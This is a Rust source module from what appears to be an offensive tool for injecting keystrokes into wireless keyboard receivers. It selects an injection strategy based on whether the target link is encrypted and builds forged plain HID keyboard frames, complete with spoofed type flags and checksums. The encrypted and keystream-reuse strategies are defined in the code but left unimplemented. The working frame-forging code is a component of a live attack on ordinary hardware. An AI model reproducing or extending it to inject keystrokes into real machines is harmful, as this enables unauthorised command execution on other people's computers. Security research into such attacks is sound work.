//! Injection frame synthesizer.
//!
//! Picks an injection strategy from an endpoint's inferred [`Capabilities`]
//! and turns a [`HidKeyboardReport`] into a frame ready for the radio.
//!
//! Strategy selection, first match wins:
//!
//! | Capabilities                                   | Strategy               |
//! |------------------------------------------------|------------------------|
//! | unknown                                        | plain                  |
//! | link not encrypted                             | plain                  |
//! | encrypted, key known                           | encrypted              |
//! | encrypted, enough whitened reports             | encrypted XOR          |
//! | encrypted, one whitened report                 | encrypted XOR (single) |
//! | encrypted, nothing else known                  | plain, degraded        |
//!
//! Only the plain strategy can build frames.  The encrypted strategies need
//! key material from cryptanalysis and fail with
//! [`InjectionError::Unsupported`] instead of producing a frame the
//! receiver would reject.

use thiserror::Error;
use tracing::{debug, warn};

use crate::domain::device::Capabilities;
use crate::keymap::hid::{HidKeyboardReport, MAX_REPORT_KEYS};
use crate::protocol::checksum::update_checksum;
use crate::protocol::frame::Frame;
use crate::protocol::report::{ReportType, REPORT_BIT_KEEP_ALIVE, REPORT_BIT_UNKNOWN};

/// Length of a plain keyboard frame.
pub const PLAIN_KEYBOARD_FRAME_LEN: usize = 10;

/// Report-type byte of a forged plain keyboard frame, flags included.
pub const PLAIN_KEYBOARD_TYPE_BYTE: u8 =
    ReportType::PlainKeyboard as u8 | REPORT_BIT_KEEP_ALIVE | REPORT_BIT_UNKNOWN;

/// Way of getting a keystroke accepted by the receiver.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum InjectionStrategy {
    /// Unencrypted keyboard report.
    Plain,
    /// Report encrypted with the recovered link key.
    Encrypted,
    /// Report forged from reused keystream across many whitened reports.
    EncryptedXor,
    /// Report forged from a single whitened report.
    EncryptedXorSingle,
}

impl std::fmt::Display for InjectionStrategy {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let name = match self {
            InjectionStrategy::Plain => "plain",
            InjectionStrategy::Encrypted => "encrypted",
            InjectionStrategy::EncryptedXor => "encrypted-xor",
            InjectionStrategy::EncryptedXorSingle => "encrypted-xor-single",
        };
        f.write_str(name)
    }
}

/// Errors produced by the synthesizer.
#[derive(Debug, Error, PartialEq, Eq)]
pub enum InjectionError {
    /// The selected strategy cannot build frames yet.
    #[error("injection strategy {0} is not supported")]
    Unsupported(InjectionStrategy),
}

/// Outcome of [`select_strategy`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct StrategyChoice {
    pub strategy: InjectionStrategy,
    /// `true` when plain injection was chosen for an encrypted link only
    /// because nothing better is available; the receiver will likely
    /// drop the frames.
    pub degraded: bool,
}

impl StrategyChoice {
    fn plain(degraded: bool) -> Self {
        Self {
            strategy: InjectionStrategy::Plain,
            degraded,
        }
    }

    fn exact(strategy: InjectionStrategy) -> Self {
        Self {
            strategy,
            degraded: false,
        }
    }
}

/// Chooses the injection strategy for an endpoint.
pub fn select_strategy(caps: Option<&Capabilities>) -> StrategyChoice {
    let Some(caps) = caps else {
        return StrategyChoice::plain(false);
    };
    if !caps.is_encrypted {
        StrategyChoice::plain(false)
    } else if caps.key_known {
        StrategyChoice::exact(InjectionStrategy::Encrypted)
    } else if caps.has_enough_whitened_reports {
        StrategyChoice::exact(InjectionStrategy::EncryptedXor)
    } else if caps.has_single_whitened_report {
        StrategyChoice::exact(InjectionStrategy::EncryptedXorSingle)
    } else {
        StrategyChoice::plain(true)
    }
}

/// Builds the frame injecting `report` into an endpoint with `caps`.
///
/// # Errors
///
/// Returns [`InjectionError::Unsupported`] when the capabilities call for
/// an encrypted strategy.
pub fn generate_keyboard_frame(
    caps: Option<&Capabilities>,
    report: &HidKeyboardReport,
) -> Result<Frame, InjectionError> {
    let choice = select_strategy(caps);
    if choice.degraded {
        warn!("link is encrypted but no key material is known, falling back to plain injection");
    }
    match choice.strategy {
        InjectionStrategy::Plain => Ok(plain_keyboard_frame(report)),
        unsupported => Err(InjectionError::Unsupported(unsupported)),
    }
}

/// Builds an unencrypted keyboard frame:
///
/// ```text
/// [00] [C1] [mods] [k0] [k1] [k2] [k3] [k4] [k5] [checksum]
/// ```
pub fn plain_keyboard_frame(report: &HidKeyboardReport) -> Frame {
    let mut frame = Frame::zeroed(PLAIN_KEYBOARD_FRAME_LEN);
    let buf = frame.as_bytes_mut();
    buf[1] = PLAIN_KEYBOARD_TYPE_BYTE;
    buf[2] = report.modifiers.0;
    buf[3..3 + MAX_REPORT_KEYS].copy_from_slice(&report.keys);
    update_checksum(buf);
    debug!(%frame, "plain keyboard frame built");
    frame
}
